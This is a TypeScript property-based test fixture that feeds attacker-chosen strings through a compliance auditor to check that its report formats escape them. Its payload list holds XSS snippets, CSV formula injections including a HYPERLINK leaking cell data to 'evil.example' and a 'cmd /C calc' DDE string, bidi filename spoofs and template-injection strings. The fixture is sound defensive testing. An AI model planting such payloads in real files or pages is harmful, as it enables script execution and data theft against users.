/**
 * A report whose every input-borne string is attacker-chosen: computer ids, unit names, software
 * names and publishers, versions, policy name, product names, ledger evidence, forbidden-pattern
 * reasons, custom rule messages and waiver justifications, input problem messages and excerpts.
 * Built through the real engine (parsePolicy + createAuditor), so reporters see what users get.
 */
import {
  type ComplianceReport,
  createAuditor,
  type HostInventory,
  type Problem,
  parsePolicy,
  type SoftwareRecord,
} from '@zhengban/core';
import fc from 'fast-check';

/** Payloads that would run or render if a format failed to escape them. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(2)>',
  '"><iframe src=javascript:alert(3)>',
  '\'><a href="javascript:alert(4)">x</a>',
  '</textarea></style></script><script>alert(5)</script>',
  '<!--',
  ']]><x>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\u0000\u0007\u001b[31m\u009b',
  '\ud800',
  '\udfff',
  '\u2028\u2029',
  // XML forbids these: one in a name made the xlsx sheet not well-formed.
  '\uFFFE\uFFFF',
  // Noncharacters elsewhere: never text, shown as U+FFFD in console and markdown.
  '\uFDD0\u{1FFFE}\u{10FFFF}',
  // Bidi overrides and isolates: `\u202Egnp.exe` shows as `exe.png`.
  '\u202Egnp.exe',
  '\u2066x\u2069\u200F',
  '{{constructor.constructor("alert(6)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, on purpose
  '${alert(7)}',
];

/** One hostile string: payloads and arbitrary code points (lone surrogates, controls) glued together. */
export const hostileString: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...PAYLOADS),
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.string({ maxLength: 8 }),
    ),
    {
      minLength: 1,
      maxLength: 4,
    },
  )
  .map((parts) => parts.join(''));

export interface HostileStrings {
  unit: string;
  host: string;
  software: string;
  publisher: string;
  version: string;
  policyName: string;
  productName: string;
  evidence: string;
  reason: string;
  ruleMessage: string;
  justification: string;
  problem: string;
}

export const hostileStrings: fc.Arbitrary<HostileStrings> = fc.record({
  unit: hostileString,
  host: hostileString,
  software: hostileString,
  publisher: hostileString,
  version: hostileString,
  policyName: hostileString,
  productName: hostileString,
  evidence: hostileString,
  reason: hostileString,
  ruleMessage: hostileString,
  justification: hostileString,
  problem: hostileString,
});

/**
 * YAML text for the policy: JSON is YAML, and JSON.stringify escapes every string safely. Texts the
 * loader requires to be non-empty get a one-letter prefix.
 */
function policyText(s: HostileStrings): string {
  return JSON.stringify({
    apiVersion: 'zhengban/v1',
    metadata: { name: `P ${s.policyName}` },
    catalog: {
      products: [
        {
          id: 'wps',
          name: `W ${s.productName}`,
          category: 'office',
          domestic: true,
          license: 'commercial',
          match: [{ name: { glob: 'WPS*' } }],
        },
        {
          id: 'tool',
          name: 'Tool',
          category: 'tool',
          license: 'commercial',
          match: [{ name: { glob: 'Tool*' } }],
        },
      ],
    },
    entitlements: [
      { id: 'E1', product: 'wps', type: 'volume', seats: 1, evidence: { contract: s.evidence } },
    ],
    forbidden: { mode: 'report', patterns: [{ name: { glob: 'Bad*' }, reason: `R ${s.reason}` }] },
    rules: [
      {
        id: 'always',
        scope: 'host',
        severity: 'warn',
        conditions: { all: [{ fact: 'softwareCount', operator: 'greaterThanInclusive', value: 0 }] },
        message: `M ${s.ruleMessage}`,
      },
    ],
    waivers: [
      {
        rule: 'custom.always',
        hosts: ['WAIVED'],
        justification: `J ${s.justification}`,
        expires: '2030-01-01',
      },
    ],
    settings: { asOf: '2024-06-30', remediationDays: 10, unrecognised: 'report' },
  });
}

const record = (name: string, version: string, publisher: string, line: number): SoftwareRecord => ({
  name,
  version,
  publisher,
  source: 'memory',
  evidence: { source: 'memory', file: 'hostile.csv', line },
});

/** The report over three computers: hostile ids, units and software everywhere. */
export async function hostileReport(s: HostileStrings): Promise<ComplianceReport> {
  const policy = parsePolicy(policyText(s), { filename: 'hostile.yaml' });
  const auditor = createAuditor(policy, { units: [{ name: `U ${s.unit}`, staff: 3, parent: s.unit }] });
  const hosts: HostInventory[] = [
    {
      id: `H ${s.host}`,
      unit: `U ${s.unit}`,
      scanner: 'memory',
      software: [
        record(`WPS ${s.software}`, '12.1', s.publisher, 2),
        record(`WPS second ${s.software}`, '12.1', s.publisher, 3),
        record(`Bad ${s.software}`, s.version, s.publisher, 4),
        record(s.software, s.version, s.publisher, 5),
      ],
    },
    {
      id: 'WAIVED',
      unit: `U ${s.unit}`,
      scanner: 'memory',
      software: [record('Tool', s.version, s.publisher, 6)],
    },
  ];
  for (const host of hosts) auditor.add(host);
  const problem: Problem = {
    message: s.problem,
    excerpt: s.problem,
    severity: 'error',
    code: 'csv.column-count',
    source: 'csv',
    file: `${s.problem}.csv`,
    line: 7,
  };
  auditor.addInput(
    { source: `csv:${s.problem}`, scanner: 'csv', hosts: 2, read: 6, accepted: 5, rejected: 1, ignored: 0 },
    [problem],
  );
  return auditor.finish();
}
